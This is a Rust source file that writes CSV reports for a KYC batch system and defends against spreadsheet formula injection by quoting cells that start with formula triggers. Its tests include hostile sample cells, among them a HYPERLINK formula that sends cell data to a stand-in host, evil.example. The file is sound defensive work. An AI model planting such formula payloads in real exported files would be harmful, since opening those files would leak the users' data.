//! The one CSV writer for every file kyc-batch hands to people (the outcomes, billing and
//! reconcile reports and the producer's rejects file), so that opening one in Excel or
//! LibreOffice never runs a formula smuggled in through a customer reference, a vendor's
//! message or a bad input row (OWASP "CSV Injection").
//!
//! Why here: the reports (`kyc-report`) and the rejects file (`kyc-producer`) both depend on
//! this crate and on nothing else in common below them, so it is the lowest floor every CSV
//! writer can reach without an upward arrow. The writer does no I/O of its own (it writes to
//! whatever `Write` it is given), which keeps this crate's "no I/O" promise.
//!
//! What it does, following OWASP's recommendation to the letter: a text cell whose first
//! character is `=`, `+`, `-`, `@`, TAB (0x09) or CR (0x0D) is written with a single quote
//! `'` in front, which spreadsheets treat as "this is text". Quoting of commas, quotes and
//! line breaks is the `csv` crate's. Deliberately not covered, because OWASP's list does not
//! name them and no spreadsheet we know evaluates them: a leading LF, leading spaces before a
//! trigger, and full-width look-alikes such as `＝` (U+FF1D).
//!
//! Numbers are typed: a [`Cell::Number`] can only be built from a Rust number, so a negative
//! count or a similarity of `-1` stays a number, while text that merely looks like one in a
//! text column (a customer reference `-5`) is text and is neutralised.

use std::borrow::Cow;
use std::fmt;
use std::io::Write;

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text`, with a `'` in front if it starts with one of [`FORMULA_TRIGGERS`].
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_TRIGGERS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A number as written in a numeric column. Only Rust numbers convert into it, so no text
/// can reach a file through a numeric column unneutralised.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Number(String);

impl Number {
    /// A decimal with a fixed number of places (`91.23`, `-1.00`).
    pub fn fixed(value: f64, places: usize) -> Self {
        Number(format!("{value:.places$}"))
    }

    /// An exact amount (`1.50`, `0.0375`), from its integer units: money never goes through
    /// a float on its way to a file.
    pub fn amount(value: crate::money::Amount) -> Self {
        Number(value.to_string())
    }
}

impl fmt::Display for Number {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

macro_rules! integer_numbers {
    ($($t:ty),*) => {$(
        impl From<$t> for Number {
            fn from(v: $t) -> Self {
                Number(v.to_string())
            }
        }
        impl From<$t> for Cell<'_> {
            fn from(v: $t) -> Self {
                Cell::Number(v.into())
            }
        }
    )*};
}
integer_numbers!(i32, i64, u32, u64);

/// One cell of a row.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell<'a> {
    /// Free text: neutralised when written if it starts like a formula.
    Text(Cow<'a, str>),
    /// A number we produced from a numeric value: written as it is.
    Number(Number),
    /// No value (a NULL).
    Empty,
}

impl Cell<'_> {
    /// The cell's text as it goes into the file.
    pub fn render(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(t) => neutralise(t),
            Cell::Number(n) => Cow::Borrowed(&n.0),
            Cell::Empty => Cow::Borrowed(""),
        }
    }
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(v: &'a str) -> Self {
        Cell::Text(Cow::Borrowed(v))
    }
}

impl<'a> From<&'a String> for Cell<'a> {
    fn from(v: &'a String) -> Self {
        Cell::Text(Cow::Borrowed(v))
    }
}

impl From<String> for Cell<'_> {
    fn from(v: String) -> Self {
        Cell::Text(Cow::Owned(v))
    }
}

impl From<Number> for Cell<'_> {
    fn from(v: Number) -> Self {
        Cell::Number(v)
    }
}

/// `true` / `false`, as text (no spreadsheet reads them as a formula).
impl From<bool> for Cell<'_> {
    fn from(v: bool) -> Self {
        Cell::Text(Cow::Borrowed(if v { "true" } else { "false" }))
    }
}

/// `None` is an empty cell.
impl<'a, T: Into<Cell<'a>>> From<Option<T>> for Cell<'a> {
    fn from(v: Option<T>) -> Self {
        v.map_or(Cell::Empty, Into::into)
    }
}

/// A `csv::Writer` that neutralises every text cell (see the module's notes).
#[derive(Debug)]
pub struct SafeCsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> SafeCsvWriter<W> {
    pub fn new(out: W) -> Self {
        Self {
            inner: csv::Writer::from_writer(out),
        }
    }

    /// Starts the file with a UTF-8 BOM first if `excel_bom`, so Excel reads it as UTF-8.
    pub fn with_excel_bom(mut out: W, excel_bom: bool) -> std::io::Result<Self> {
        if excel_bom {
            out.write_all("\u{feff}".as_bytes())?;
        }
        Ok(Self::new(out))
    }

    /// The header row (column names are text like any other cell).
    pub fn write_header(&mut self, names: &[&str]) -> csv::Result<()> {
        self.write_row(names.iter().map(|n| Cell::from(*n)))
    }

    pub fn write_row<'c>(&mut self, cells: impl IntoIterator<Item = Cell<'c>>) -> csv::Result<()> {
        let cells: Vec<Cell<'c>> = cells.into_iter().collect();
        let rendered: Vec<Cow<'_, str>> = cells.iter().map(Cell::render).collect();
        self.inner
            .write_record(rendered.iter().map(|c| c.as_bytes()))
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: Vec<Cell<'_>>) -> String {
        let mut w = SafeCsvWriter::new(Vec::new());
        w.write_row(cells).unwrap();
        w.flush().unwrap();
        String::from_utf8(w.inner.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn every_owasp_trigger_is_neutralised_with_a_quote() {
        for hostile in [
            "=HYPERLINK(\"http://evil.example/?\"&E2,\"open\")",
            "@SUM(1+1)",
            "+1",
            "-1+1",
            "-5",
            "\t=1",
            "\r=1",
        ] {
            let out = neutralise(hostile);
            assert_eq!(out, format!("'{hostile}"), "{hostile:?}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for fine in ["C-1", "张三丰", "1000", "a=b", " =1", "\n=1", "", "'=1"] {
            assert_eq!(neutralise(fine), fine, "{fine:?}");
        }
    }

    #[test]
    fn numbers_stay_numbers_even_when_negative() {
        let line = written(vec![
            Cell::from(-1i64),
            Number::fixed(-1.0, 2).into(),
            Cell::from("-1"),
            Cell::from(None::<i64>),
            Cell::from(7u64),
        ]);
        assert_eq!(line, "-1,-1.00,'-1,,7\n");
    }

    #[test]
    fn quoting_still_applies_to_neutralised_cells() {
        let line = written(vec![
            Cell::from("=HYPERLINK(\"http://evil.example/?\"&E2,\"open\")"),
            Cell::from("\r=1"),
        ]);
        assert_eq!(
            line,
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&E2,\"\"open\"\")\",\"'\r=1\"\n"
        );
    }
}
